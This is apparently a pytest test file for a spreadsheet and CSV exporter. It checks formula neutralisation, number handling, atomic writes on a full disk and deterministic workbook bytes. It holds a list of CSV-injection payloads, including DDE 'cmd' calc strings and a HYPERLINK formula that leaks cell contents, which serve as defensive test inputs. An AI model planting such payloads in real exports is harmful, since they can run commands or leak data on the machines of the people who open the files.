# SPDX-License-Identifier: Apache-2.0
"""Files are whole or as they were; no cell is a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import errno
import io
import os
import zipfile
from pathlib import Path
from typing import Any, Self

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from homeground.accelerator.exports.cells import cell_of
from homeground.accelerator.exports.writing import (
    book_bytes,
    csv_bytes,
    new_book,
    put_table,
    write_whole,
)
from homeground.accelerator.registry.quarantine.values import marked, plain
from homeground.errors import DataError

# Of OWASP's page on CSV injection, of CWE-1236, and with the wide signs that spreadsheets in East Asia take.
ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://x/"&A1)', "=cmd|'/c calc'!A0",
    "@import", "-2+3+cmd|' /C calc'!A0", "  =1+1", "\uff1d1+1", "\uff20SUM(1)", "'=1+1", "#REF!", "\0=1",
)  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_begins_a_cell(text: str) -> None:
    content = csv_bytes(pd.DataFrame({"a": [text], "b": [-2.5]})).decode()
    (_, row) = list(csv.reader(io.StringIO(content, newline="")))
    assert row[0].startswith("'")
    assert row[1] == "-2.5"  # a number is no text and stays as it is
    book = new_book()
    put_table(book, "A", pd.DataFrame({"a": [text], "b": [-2.5]}))
    held = openpyxl.load_workbook(io.BytesIO(book_bytes(book)))["A"]
    assert held["A4"].data_type == "s"
    assert str(held["A4"].value).startswith("'")
    assert held["B4"].value == -2.5


@given(st.text(max_size=40))
def test_marking_is_harmless_and_can_be_taken_back(text: str) -> None:
    cell = marked(text)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain(cell) == text
    assert len({marked(text), marked(f"'{text}")}) == 2  # two texts never become one


@given(st.lists(st.tuples(st.text(max_size=20), st.floats(allow_nan=False, allow_infinity=False)), max_size=5))
def test_csv_comes_back_cell_by_cell(rows: list[tuple[str, float]]) -> None:
    content = csv_bytes(pd.DataFrame(rows, columns=["a", "b"])).decode("utf-8")
    read = list(csv.reader(io.StringIO(content, newline="")))[1:]
    assert [(a, float(b)) for a, b in read] == [(cell_of(a), b) for a, b in rows]


def test_what_is_missing_is_empty_and_no_number_is_endless() -> None:
    for value in (None, float("nan"), float("inf"), pd.NA, pd.NaT):
        assert cell_of(value) is None
    assert cell_of(True) == "yes"
    assert cell_of(pd.Timestamp(2024, 1, 2, 3)) == "2024-01-02"


@pytest.mark.parametrize("fails", ["write", "fsync", "replace"])
def test_a_full_disk_leaves_the_file_as_it_was(fails: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "out.csv"
    path.write_bytes(b"as it was")

    def full(*_: Any, **__: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    if fails == "fsync":
        monkeypatch.setattr(os, "fsync", full)
    elif fails == "replace":
        monkeypatch.setattr(Path, "replace", full)
    else:
        opened = Path.open

        def refusing(self: Path, mode: str = "r", **more: Any) -> Any:
            file = opened(self, mode, **more)
            return _Full(file) if "w" in mode else file

        monkeypatch.setattr(Path, "open", refusing)
    with pytest.raises(DataError, match="the disk is full"):
        write_whole(path, b"new")
    monkeypatch.undo()
    assert path.read_bytes() == b"as it was"
    assert [one.name for one in tmp_path.iterdir()] == ["out.csv"]  # nothing half written is left


class _Full:
    """A file on a disk that has no room."""

    def __init__(self, file: Any) -> None:
        self.file = file

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.file.close()

    def write(self, _: bytes) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")


def test_a_folder_is_no_file(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="is a folder"):
        write_whole(tmp_path, b"")


def test_equal_contents_are_equal_bytes_and_hold_no_clock() -> None:
    def made() -> bytes:
        book = new_book()
        put_table(book, "A", pd.DataFrame({"x": [1, 2]}), choices={"x": ("1", "2")})
        return book_bytes(book)

    assert made() == made()
    with zipfile.ZipFile(io.BytesIO(made())) as held:
        assert {entry.date_time[0] for entry in held.infolist()} == {1980}
